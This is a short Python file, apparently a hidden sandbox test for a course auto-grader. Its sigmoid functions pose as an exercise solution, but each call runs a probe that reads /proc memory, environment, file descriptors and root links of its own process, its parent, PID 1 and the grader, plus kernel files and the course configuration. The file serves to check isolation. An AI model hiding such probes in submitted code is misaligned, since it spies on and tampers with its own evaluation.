# tries: to read what /proc shows of itself, its parent, the grader and the machine
# must: wrong
# hidden: yes
import os


def shown(attempt, *given):
    try:
        print(attempt.__name__, given, attempt(*given))
    except BaseException as error:
        print(attempt.__name__, given, type(error).__name__)


def attack():
    for process in ("self", "thread-self", "1", "@PID@", str(os.getppid())):
        for name in ("mem", "environ", "maps", "cmdline", "status", "stat", "mountinfo", "auxv", "pagemap", "syscall", "stack", "task"):
            shown(lambda path: open(path, "rb").read(64), f"/proc/{process}/{name}")
        for name in ("root", "cwd", "exe", "fd/0", "fd/3"):
            shown(os.readlink, f"/proc/{process}/{name}")
        shown(os.listdir, f"/proc/{process}/fd")
        shown(lambda path: open(path).read(), f"/proc/{process}/root" + "@OPEN_FILE@")
        shown(lambda path: open(path).read(), f"/proc/{process}/cwd/exercises/course.toml")
    for path in ("/proc/net/tcp", "/proc/keys", "/proc/sysvipc/shm", "/proc/kcore", "/proc/kallsyms", "/sys/kernel/security"):
        shown(lambda path: open(path, "rb").read(64), path)


def sigmoid(x):
    attack()
    return x * 0


def sigmoid_output_to_derivative(output):
    attack()
    return output * 0
